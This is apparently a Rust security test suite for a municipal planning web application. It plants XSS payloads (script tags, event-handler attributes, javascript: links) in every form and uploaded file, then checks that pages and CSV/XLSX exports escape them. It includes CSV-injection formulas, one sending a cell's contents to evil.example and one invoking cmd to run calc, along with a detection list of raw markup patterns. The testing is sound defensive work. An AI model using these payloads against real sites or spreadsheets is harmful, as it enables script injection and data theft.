//! XSS: payloads stored through the real forms in every text field, then every page fetched (as
//! staff, and the public pages anonymously) must show them escaped and never raw. The forms and
//! their fields are read from the pages themselves (`<form method="post">` and the `name=` of its
//! inputs), so a new form or field joins without a change here. The same sweep stores spreadsheet
//! formulas, and every CSV and XLSX export of the route table must neutralise them (CSV) or keep
//! them as plain strings (XLSX).

use crate::both;
use crate::harness::{Client, Res, TestApp, escape};
use crate::scene::{Scene, Scope, Subject};
use axum::http::Method;

const PAYLOADS: [&str; 6] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "'-alert(1)-'",
    "</textarea><svg onload=alert(1)>",
    "Tekst <b onmouseover=alert(1)>fet</b> [lenke](javascript:alert(1)) <iframe src=x></iframe>",
];

/// Text a spreadsheet would run as a formula if a CSV cell began with it (OWASP, "CSV Injection").
/// The forms get them in turn with the markup payloads.
const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Klikk\")",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=2+3",
];

/// The `i`-th payload a text field gets: the markup payloads and the formulas in turn.
fn payload_at(i: usize) -> &'static str {
    let i = i % (PAYLOADS.len() + FORMULAS.len());
    PAYLOADS.get(i).copied().unwrap_or_else(|| FORMULAS[i - PAYLOADS.len()])
}

/// Markup that would run if it reached a page unescaped: any of these means a tag or attribute was
/// injected. (The payloads' text escaped, e.g. `&#60;img src=x onerror=…`, is harmless, and
/// `'-alert(1)-'` only matters inside script, which the CSP forbids inline.)
const RAW: [&str; 7] = [
    "<script>alert",
    "<img src=x",
    "<svg onload",
    "<b onmouseover",
    "<iframe",
    "href=\"javascript:",
    "src=\"javascript:",
];

/// Forms whose submission would end the session or undo the scene rather than store text.
const NOT_SUBMITTED: [&str; 8] =
    ["/logout", "/login", "/language", "/password", "/revoke", "/remove", "/status", "/statistics/import"];

fn unescape(s: &str) -> String {
    s.replace("&#34;", "\"")
        .replace("&quot;", "\"")
        .replace("&#39;", "'")
        .replace("&#60;", "<")
        .replace("&lt;", "<")
        .replace("&#62;", ">")
        .replace("&gt;", ">")
        .replace("&#38;", "&")
        .replace("&amp;", "&")
}

/// The value of attribute `name` in the tag text `tag` (`<input a="b" ...`).
fn attr(tag: &str, name: &str) -> Option<String> {
    let marker = format!(" {name}=\"");
    let start = tag.find(&marker)? + marker.len();
    Some(unescape(tag[start..].split('"').next()?))
}

fn has_flag(tag: &str, name: &str) -> bool {
    tag.split(|c: char| c.is_whitespace() || c == '>').any(|w| w == name)
}

#[derive(Default)]
/// A POST form found on a page: its action and the pairs to submit, text fields holding payloads.
struct FoundForm {
    action: String,
    pairs: Vec<(String, String)>,
    text_fields: Vec<String>,
    /// The text fields' values as the page gave them.
    originals: Vec<String>,
}

/// Every `<form method="post">` of `html`, filled: hidden inputs, checked boxes and selected
/// options keep their values; text inputs and text areas get the payloads in turn.
fn post_forms(html: &str, next_payload: &mut usize) -> Vec<FoundForm> {
    let mut out = Vec::new();
    for chunk in html.split("<form").skip(1) {
        let Some(end) = chunk.find("</form>") else { continue };
        let form = &chunk[..end];
        let head = &form[..form.find('>').unwrap_or(0)];
        if attr(head, "method").is_none_or(|m| !m.eq_ignore_ascii_case("post"))
            || attr(head, "enctype").is_some_and(|e| e.contains("multipart"))
        {
            continue;
        }
        let Some(action) = attr(head, "action") else { continue };
        let mut pairs = Vec::new();
        let mut text_fields = Vec::new();
        let mut originals = Vec::new();
        let mut payload = |name: &str, original: String, fields: &mut Vec<String>| {
            fields.push(name.to_owned());
            originals.push(original);
            *next_payload += 1;
            payload_at(*next_payload).to_owned()
        };
        for tag in form.split('<').skip(1) {
            let tag_end = tag.find('>').unwrap_or(tag.len());
            let t = &tag[..tag_end];
            let Some(name) = attr(&format!(" {t}"), "name") else { continue };
            let t = format!(" {t}");
            if tag.starts_with("input") {
                let kind = attr(&t, "type").unwrap_or_else(|| "text".into());
                let value = attr(&t, "value").unwrap_or_default();
                match kind.as_str() {
                    "hidden" => pairs.push((name, value)),
                    "checkbox" | "radio" if has_flag(&t, "checked") => pairs.push((name, value)),
                    "text" | "search" | "url" => {
                        let p = payload(&name, value, &mut text_fields);
                        pairs.push((name, p));
                    }
                    "checkbox" | "radio" | "submit" | "file" => {}
                    // Required non-text fields left empty get a plain valid value.
                    "date" if value.is_empty() && has_flag(&t, "required") => pairs.push((name, "2026-01-01".into())),
                    "email" if value.is_empty() && has_flag(&t, "required") => {
                        pairs.push((name, format!("xss{}@a.test", out.len() * 100 + pairs.len())))
                    }
                    "password" if has_flag(&t, "required") => pairs.push((name, "passord-for-xss-test".into())),
                    "number" if value.is_empty() && has_flag(&t, "required") => pairs.push((name, "1".into())),
                    _ => pairs.push((name, value)),
                }
            } else if tag.starts_with("textarea") {
                let original = unescape(&tag[tag_end + 1..]);
                let p = payload(&name, original, &mut text_fields);
                pairs.push((name, p));
            } else if tag.starts_with("select") {
                let rest = &form[form.find(tag).unwrap_or(0)..];
                let select = &rest[..rest.find("</select>").unwrap_or(rest.len())];
                let values: Vec<(String, bool)> = select
                    .split("<option")
                    .skip(1)
                    .map(|o| {
                        let head = format!(" {}", &o[..o.find('>').unwrap_or(0)]);
                        (attr(&head, "value").unwrap_or_default(), has_flag(&head, "selected"))
                    })
                    .collect();
                let chosen = values
                    .iter()
                    .find(|(_, s)| *s)
                    .or_else(|| values.iter().find(|(v, _)| !v.is_empty()))
                    .map(|(v, _)| v.clone())
                    .unwrap_or_default();
                pairs.push((name, chosen));
            }
        }
        out.push(FoundForm { action, pairs, text_fields, originals });
    }
    out
}

/// Whether `res` is an HTML page (exports and JSON carry text as data, not markup).
fn is_html(res: &Res) -> bool {
    res.headers.get("content-type").and_then(|v| v.to_str().ok()).is_some_and(|v| v.starts_with("text/html"))
}

/// Every GET page of the route table, filled for the scene, as `index`'s subject.
async fn pages(t: &TestApp, scene: &mut Scene, index: usize) -> Vec<(String, Res)> {
    let subject = scene.subjects[index].0;
    let mut out = Vec::new();
    for route in rodtrad_web::route_table().iter().filter(|r| r.method == Method::GET) {
        let path = scene.fill(t, route, subject, Scope::Own).await;
        let res = scene.subjects[index].1.get(&path).await;
        if res.status.is_success() && is_html(&res) {
            out.push((path, res));
        }
    }
    out
}

async fn submit(c: &mut Client, form: &FoundForm) -> Res {
    let pairs: Vec<(&str, &str)> = form.pairs.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    c.post_raw(&form.action, &pairs).await
}

both!(stored_payloads_are_escaped_on_every_page, |t: TestApp| async move {
    let mut scene = Scene::new(&t).await;
    let admin = scene.subjects.iter().position(|(s, _)| *s == Subject::SystemAdmin).unwrap();
    let anonymous = scene.subjects.iter().position(|(s, _)| *s == Subject::Anonymous).unwrap();
    let mut next_payload = 0;
    let mut stored = Vec::new();
    let mut refused = Vec::new();
    let mut submitted = std::collections::HashSet::new();
    // Every form on every page, once per action; the pages are read again after each round, since
    // a stored object (a new unit, person or element) brings its own page and forms.
    for _round in 0..2 {
        for (_, page) in pages(&t, &mut scene, admin).await {
            for form in post_forms(&page.body, &mut next_payload) {
                let key = format!("{} {:?}", form.action, form.text_fields);
                if form.text_fields.is_empty()
                    || NOT_SUBMITTED.iter().any(|n| form.action.contains(n))
                    || !submitted.insert(key)
                {
                    continue;
                }
                let c = &mut scene.subjects[admin].1;
                let res = submit(c, &form).await;
                assert!(res.status.as_u16() < 500, "{} answered {}", form.action, res.status);
                if res.status.is_redirection() || res.status.as_u16() == 201 {
                    stored.push(format!("{} [{}]", form.action, form.text_fields.join(", ")));
                    continue;
                }
                // Some field refused its payload (a region code, a case number): one field at a
                // time carries the payload, the others what the page gave them, or else plain text.
                for field in &form.text_fields {
                    let mut ok = false;
                    for plain in [false, true] {
                        let mut one = FoundForm { action: form.action.clone(), ..FoundForm::default() };
                        for (i, (k, v)) in form.pairs.iter().enumerate() {
                            let other = form.text_fields.iter().position(|f| f == k && k != field);
                            let value = match other {
                                Some(_) if plain => format!("Tekst {i}"),
                                Some(o) => form.originals[o].clone(),
                                None => v.clone(),
                            };
                            one.pairs.push((k.clone(), value));
                        }
                        let res = submit(c, &one).await;
                        assert!(res.status.as_u16() < 500, "{} answered {}", form.action, res.status);
                        if res.status.is_redirection() || res.status.as_u16() == 201 {
                            stored.push(format!("{} [{field}]", form.action));
                            ok = true;
                            break;
                        }
                    }
                    if !ok {
                        refused.push(format!("{} [{field}]", form.action));
                    }
                }
            }
        }
    }
    eprintln!("XSS payloads stored through {} forms:\n{}", stored.len(), stored.join("\n"));
    eprintln!("refused by validation:\n{}", refused.join("\n"));
    // The kinds of text the forms must have taken.
    for needle in [
        "/org/",
        "/people",
        "/plans/",
        "/elements/",
        "/sections",
        "/peer-groups",
        "/users",
        "/sdg/targets/",
        "/indicator/definition",
    ] {
        assert!(stored.iter().any(|s| s.contains(needle)), "no payload stored through a form at {needle}");
    }

    // Every formula also becomes a goal of school X's plan through the element form, so that each
    // reaches an export whichever fields the turns above gave it.
    let plan = scene.unit_objects(Subject::SystemAdmin, Scope::Own).plan;
    for formula in FORMULAS {
        let c = &mut scene.subjects[admin].1;
        let fields = [("kind", "main_goal"), ("text", formula), ("parent_id", "")];
        c.post(&format!("/plans/{plan}/elements"), &fields).await.expect(303);
    }

    // School X's plan, now full of payloads, goes public (its lifecycle has its own tests).
    rodtrad_store::on_db!(&t.db, pool => {
        sqlx::query("UPDATE plans SET status = 'adopted', published = $2 WHERE id = $1")
            .bind(plan).bind(true).execute(pool).await.unwrap();
    });
    let public = scene.subjects[anonymous].1.get(&format!("/public/0301/plans/{plan}")).await.expect(200);

    let mut seen = [false; PAYLOADS.len()];
    let mut leaks = Vec::new();
    let mut checked = 0;
    let mut all = pages(&t, &mut scene, admin).await;
    all.extend(pages(&t, &mut scene, anonymous).await);
    all.push((format!("/public/0301/plans/{plan} (anonymous)"), public));
    {
        for (path, res) in all {
            checked += 1;
            for raw in RAW {
                if res.body.contains(raw) {
                    let at = res.body.find(raw).unwrap();
                    let context = &res.body[at.saturating_sub(80)..(at + raw.len() + 40).min(res.body.len())];
                    leaks.push(format!("{path}: raw {raw:?} in …{context}…"));
                }
            }
            for (i, payload) in PAYLOADS.iter().enumerate() {
                seen[i] |= res.body.contains(&escape(payload));
            }
        }
    }
    assert!(leaks.is_empty(), "{}", leaks.join("\n"));
    assert!(checked > 30, "only {checked} pages");
    // Each payload came back escaped somewhere, so the absence of the raw form means something.
    for (payload, seen) in PAYLOADS.iter().zip(seen) {
        assert!(seen, "payload {payload:?} was never shown escaped");
    }
    exports_neutralise_formulas(&t, &mut scene).await;
});

/// Whether a spreadsheet would run a CSV cell as a formula: it begins with `=`, `+`, `@`, a tab or a
/// carriage return, or with `-` without being a number (a negative value the application wrote).
fn runs_as_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '@', '\t', '\r'])
        || (cell.starts_with('-') && cell.replace(',', ".").parse::<f64>().is_err())
}

/// Every CSV and XLSX export of the route table, filled for the scene and fetched by the first
/// subject allowed to read it: no CSV cell may run as a formula and no XLSX cell may hold one, and
/// each formula stored by the sweep must come back, neutralised in a CSV file and verbatim in an
/// XLSX sheet, so that their absence means something.
async fn exports_neutralise_formulas(t: &TestApp, scene: &mut Scene) {
    use calamine::{Reader, Xlsx};
    let readers = [Subject::SystemAdmin, Subject::Management, Subject::Auditor];
    // What the forms stored: leading tabs and line breaks are trimmed by the input parsing.
    let stored: Vec<String> = FORMULAS.iter().map(|f| f.trim().to_owned()).collect();
    let mut in_csv = vec![false; stored.len()];
    let mut in_xlsx = vec![false; stored.len()];
    let mut problems = Vec::new();
    let mut checked = Vec::new();
    for route in rodtrad_web::route_table().iter().filter(|r| r.method == Method::GET) {
        let csv = route.path.ends_with(".csv");
        if !csv && !route.path.ends_with(".xlsx") {
            continue;
        }
        let mut answered = None;
        for subject in readers {
            let path = scene.fill(t, route, subject, Scope::Own).await;
            let index = scene.subjects.iter().position(|(s, _)| *s == subject).unwrap();
            let res = scene.subjects[index].1.get(&path).await;
            if res.status.is_success() {
                answered = Some((path, res));
                break;
            }
        }
        let Some((path, res)) = answered else {
            problems.push(format!("{}: no subject could fetch it", route.path));
            continue;
        };
        if csv {
            let mut reader =
                csv::ReaderBuilder::new().delimiter(b';').has_headers(false).flexible(true).from_reader(&res.bytes[..]);
            for record in reader.records() {
                let record = record.unwrap_or_else(|e| panic!("{path}: not CSV: {e}"));
                for (i, cell) in record.iter().enumerate() {
                    let cell = if i == 0 { cell.trim_start_matches('\u{feff}') } else { cell };
                    if runs_as_formula(cell) {
                        problems.push(format!("{path}: cell {cell:?} runs as a formula"));
                    }
                    for (f, seen) in stored.iter().zip(in_csv.iter_mut()) {
                        *seen |= cell == format!("'{f}");
                    }
                }
            }
        } else {
            let mut book: Xlsx<_> =
                Xlsx::new(std::io::Cursor::new(res.bytes.clone())).unwrap_or_else(|e| panic!("{path}: not XLSX: {e}"));
            for sheet in book.sheet_names() {
                let formulas = book.worksheet_formula(&sheet).unwrap();
                if let Some((r, c, f)) = formulas.used_cells().find(|(_, _, f)| !f.is_empty()) {
                    problems.push(format!("{path}: cell ({r}, {c}) holds the formula {f:?}"));
                }
                let range = book.worksheet_range(&sheet).unwrap();
                for (_, _, cell) in range.used_cells() {
                    let calamine::Data::String(text) = cell else {
                        problems.push(format!("{path}: cell {cell:?} is not a string"));
                        continue;
                    };
                    for (f, seen) in stored.iter().zip(in_xlsx.iter_mut()) {
                        *seen |= text == f;
                    }
                }
            }
        }
        checked.push(path);
    }
    assert!(problems.is_empty(), "{}", problems.join("\n"));
    assert!(checked.len() >= 6, "only {checked:?}");
    for ((formula, csv), xlsx) in stored.iter().zip(in_csv).zip(in_xlsx) {
        assert!(csv, "formula {formula:?} was never seen neutralised in {checked:?}");
        assert!(xlsx, "formula {formula:?} was never seen verbatim in an XLSX export");
    }
    eprintln!("exports checked for formulas: {}", checked.join(", "));
}

/// Links to pages under `prefix` found in `html`, without their fragment.
fn links_under(html: &str, prefix: &str) -> Vec<String> {
    html.split("href=\"")
        .skip(1)
        .filter_map(|rest| rest.split('"').next())
        .filter(|href| href.starts_with(prefix) && !href.contains(".csv") && !href.contains(".xlsx"))
        .map(|href| href.split('#').next().unwrap_or(href).replace("&amp;", "&"))
        .collect()
}

// The sweep above fills forms; an uploaded file is the other way text gets in. A JSON-stat file
// whose every label is a payload is uploaded and imported, then every statistics page reachable
// from the statistics front page must show the labels escaped, never raw (the chart SVG included).
both!(labels_from_an_uploaded_file_are_escaped_on_every_page, |t: TestApp| async move {
    let mut dataset: serde_json::Value =
        serde_json::from_str(include_str!("../../../store/demo/statistics/07459-befolkning.json")).unwrap();
    dataset["label"] = PAYLOADS[0].into();
    dataset["source"] = PAYLOADS[1].into();
    dataset["note"] = serde_json::json!([PAYLOADS[5]]);
    dataset["dimension"]["Region"]["label"] = PAYLOADS[4].into();
    dataset["dimension"]["Region"]["category"]["label"]["0301"] = PAYLOADS[1].into();
    dataset["dimension"]["Region"]["category"]["label"]["0"] = PAYLOADS[4].into();
    let metric = dataset["dimension"]["ContentsCode"]["category"]["label"].as_object_mut().unwrap();
    for label in metric.values_mut() {
        *label = PAYLOADS[0].into();
    }
    let body = dataset.to_string();
    let mut c = t.login("styring").await;
    let csrf = c.csrf().await;
    let boundary = "rodtradXssBoundary";
    let multipart = format!(
        "--{boundary}\r\nContent-Disposition: form-data; name=\"csrf_token\"\r\n\r\n{csrf}\r\n\
         --{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"<b onmouseover=x>.json\"\r\nContent-Type: application/json\r\n\r\n{body}\r\n\
         --{boundary}--\r\n"
    );
    let ct = format!("multipart/form-data; boundary={boundary}");
    let preview = c.send(Method::POST, "/statistics/import", Some(multipart), &[("content-type", ct.as_str())]).await;
    let preview = preview.expect(200);
    let mut pages = vec![("/statistics/import (preview)".to_owned(), preview.body.clone())];
    let token =
        preview.body.split("action=\"/statistics/import/").nth(1).unwrap().split('"').next().unwrap().to_owned();
    let done = c.post(&format!("/statistics/import/{token}"), &[]).await.expect(303);
    let mut queue = vec![done.location().to_owned(), "/statistics".to_owned(), "/statistics/sdg".to_owned()];
    let mut seen_paths = std::collections::HashSet::new();
    while let Some(path) = queue.pop() {
        if !seen_paths.insert(path.clone()) || seen_paths.len() > 60 {
            continue;
        }
        let res = c.get(&path).await;
        if !is_html(&res) {
            continue;
        }
        queue.extend(links_under(&res.body, "/statistics/"));
        pages.push((path, res.body));
    }
    let mut leaks = Vec::new();
    let mut shown = 0;
    for (path, body) in &pages {
        for raw in RAW {
            if let Some(at) = body.find(raw) {
                let context = &body[at.saturating_sub(80)..(at + raw.len() + 40).min(body.len())];
                leaks.push(format!("{path}: raw {raw:?} in …{context}…"));
            }
        }
        shown += PAYLOADS.iter().filter(|p| body.contains(&escape(p))).count();
    }
    assert!(leaks.is_empty(), "{}", leaks.join("\n"));
    assert!(pages.iter().any(|(p, _)| p.starts_with("/statistics/series/")), "no series page reached: {seen_paths:?}");
    assert!(shown > 0, "no payload shown escaped on {} pages", pages.len());
    eprintln!("uploaded labels: {} statistics pages checked on {:?}", pages.len(), t.backend);
});

// The sweep above runs as a system administrator, who may not read leadership agreements (personal
// data). Here the parties type payloads into an agreement (development points, the delegated
// authority), its committed plan elements, their plan and the leader's unit carry payloads too, and
// every agreement page of the route table (list, agreement, edit form, each version, the refused and
// stale saves) is read by both parties and by HR: raw markup nowhere, each text shown escaped.
both!(agreement_text_is_escaped_on_every_agreement_page, |t: TestApp| async move {
    use rodtrad_domain::Name;
    use rodtrad_domain::plan::{ElementKind, ElementStatus, PlanType};
    use rodtrad_store::plans::{ElementInput, PlanInput};
    use rodtrad_store::{Author, on_db};
    let fx = t.fx.clone();
    let a = Author { municipality_id: fx.municipality, user_id: None, name: "Oppsett".into() };
    let version_of = |id: i64| {
        let db = t.db.clone();
        async move {
            let v: i64 = on_db!(&db, pool => sqlx::query_scalar("SELECT version FROM leadership_agreements WHERE id = $1")
                .bind(id).fetch_one(pool).await.unwrap());
            v.to_string()
        }
    };
    // The leader's unit, the plan and its elements, named with payloads (names take any text).
    let unit = t.db.org_unit(fx.municipality, fx.unit_x).await.unwrap();
    let unit_name = format!("Xskolen {}", PAYLOADS[1]);
    let change = rodtrad_store::org::OrgUnitChange {
        parent_id: unit.parent_id,
        name: Name::parse(&unit_name).unwrap(),
        short_name: None,
        leader_person_id: unit.leader_person_id,
        valid_from: unit.valid_from,
        valid_to: None,
    };
    t.db.org_unit_update(&a, fx.unit_x, unit.version, &change).await.unwrap();
    let plan_title = format!("Virksomhetsplan {}", PAYLOADS[4]);
    let input = PlanInput {
        plan_type: PlanType::UnitPlan,
        title: Name::parse(&plan_title).unwrap(),
        start_year: 2026,
        end_year: 2026,
        owner_unit_id: Some(fx.unit_x),
        published: false,
    };
    let plan = t.db.plan_create(&a, &input, &[]).await.unwrap();
    let goal = ElementInput {
        kind: ElementKind::MainGoal,
        text: format!("Mål {}", PAYLOADS[0]),
        owner_unit_id: Some(fx.unit_x),
        responsible_person_id: None,
        deadline: None,
        status: ElementStatus::Draft,
        sdg_targets: vec![],
    };
    let main = t.db.element_create(&a, plan, None, &goal).await.unwrap();
    let sub = ElementInput { kind: ElementKind::SubGoal, text: format!("Delmål {}", PAYLOADS[2]), ..goal.clone() };
    let sub = t.db.element_create(&a, plan, Some(main), &sub).await.unwrap();
    let measure = ElementInput {
        kind: ElementKind::Measure,
        text: format!("Tiltak {}", PAYLOADS[5]),
        deadline: chrono::NaiveDate::from_ymd_opt(2026, 6, 1),
        ..goal.clone()
    };
    let measure = t.db.element_create(&a, plan, Some(sub), &measure).await.unwrap();

    let mut director = t.login("direktor").await;
    let mut leader = t.login("lederx").await;
    let res = director.post("/agreements", &[("unit_id", &fx.unit_x.to_string()), ("year", "2026")]).await.expect(303);
    let id: i64 = res.location().strip_prefix("/agreements/").unwrap().parse().unwrap();
    let points = PAYLOADS.join("\n");
    let authority = format!("Fullmakt {} og {}", PAYLOADS[0], PAYLOADS[4]);
    let items = [main, sub, measure].map(|i| i.to_string());
    let v = version_of(id).await;
    let form = |v: &str| {
        vec![
            ("version", v.to_owned()),
            ("items", items[0].clone()),
            ("items", items[1].clone()),
            ("items", items[2].clone()),
            ("development_points", points.clone()),
            ("authority", authority.clone()),
        ]
    };
    save_agreement(&mut leader, id, &form(&v)).await.expect(303);
    // The forms that come back with the typed text: a refused save (an element from no plan of
    // the unit) and a stale one.
    let mut answered = Vec::new();
    let mut refused = form(&version_of(id).await);
    refused.push(("items", "999999999".into()));
    answered
        .push(("refused save".to_owned(), save_agreement(&mut leader, id, &refused).await.expect(422).body.clone()));
    answered.push(("stale save".to_owned(), save_agreement(&mut leader, id, &form(&v)).await.expect(409).body.clone()));

    // Both sign version 1; the plan changes after (the agreement shows the text then and now);
    // version 2 is started, so there are versions 1 and 2 and an edit form again.
    leader.post(&format!("/agreements/{id}/sign"), &[("version", &version_of(id).await)]).await.expect(303);
    director.post(&format!("/agreements/{id}/sign"), &[("version", &version_of(id).await)]).await.expect(303);
    let e = t.db.element(fx.municipality, sub).await.unwrap();
    let changed = format!("Endret delmål {}", PAYLOADS[1]);
    let input = ElementInput {
        kind: e.kind,
        text: changed.clone(),
        owner_unit_id: e.owner_unit_id,
        responsible_person_id: None,
        deadline: None,
        status: e.status,
        sdg_targets: vec![],
    };
    t.db.element_update(&a, sub, e.version, &input).await.unwrap();
    leader.post(&format!("/agreements/{id}/new-version"), &[("version", &version_of(id).await)]).await.expect(303);

    let mut texts: Vec<String> = PAYLOADS.iter().map(|p| (*p).to_owned()).collect();
    texts.extend([
        unit_name,
        authority.clone(),
        changed,
        format!("Delmål {}", PAYLOADS[2]),
        format!("Tiltak {}", PAYLOADS[5]),
    ]);
    let routes: Vec<_> = rodtrad_web::route_table()
        .into_iter()
        .filter(|r| r.method == Method::GET && r.path.starts_with("/agreements"))
        .collect();
    let mut hr = t.login("hr").await;
    let mut leaks = Vec::new();
    for (who, c) in [("leader", &mut leader), ("superior", &mut director), ("HR", &mut hr)] {
        let mut pages = if who == "leader" { std::mem::take(&mut answered) } else { Vec::new() };
        for route in &routes {
            for number in ["1", "2"] {
                let path = route.path.replace("{agreement}", &id.to_string()).replace("{number}", number);
                if pages.iter().any(|(p, _)| *p == path) {
                    continue;
                }
                let res = c.get(&path).await;
                if res.status.is_success() && is_html(&res) {
                    pages.push((path, res.body.clone()));
                }
            }
        }
        let paths: Vec<&str> = pages.iter().map(|(p, _)| p.as_str()).collect();
        // The list, the agreement and both versions for every reader; the edit form for the parties.
        for must in ["/agreements".to_owned(), format!("/agreements/{id}"), format!("/agreements/{id}/versions/1")] {
            assert!(paths.contains(&must.as_str()), "{who} did not get {must}: {paths:?}");
        }
        assert_eq!(paths.contains(&format!("/agreements/{id}/edit").as_str()), who != "HR", "{who}: {paths:?}");
        for (path, body) in &pages {
            for raw in RAW {
                if let Some(at) = body.find(raw) {
                    let context = &body[at.saturating_sub(80)..(at + raw.len() + 40).min(body.len())];
                    leaks.push(format!("{who} {path}: raw {raw:?} in …{context}…"));
                }
            }
        }
        for text in &texts {
            let shown = escape(text);
            assert!(pages.iter().any(|(_, b)| b.contains(&shown)), "{who}: {text:?} never shown escaped on {paths:?}");
        }
        if who == "leader" {
            for (what, body) in pages.iter().filter(|(p, _)| p.ends_with(" save")) {
                assert!(body.contains(&escape(&authority)), "{what}: the typed text is not kept");
            }
        }
        eprintln!("agreement pages checked as {who}: {}", paths.join(", "));
    }
    assert!(leaks.is_empty(), "{}", leaks.join("\n"));
});

/// Saves agreement `id`'s latest version through its form.
async fn save_agreement(c: &mut Client, id: i64, form: &[(&str, String)]) -> Res {
    let pairs: Vec<(&str, &str)> = form.iter().map(|(k, v)| (*k, v.as_str())).collect();
    c.post(&format!("/agreements/{id}"), &pairs).await
}
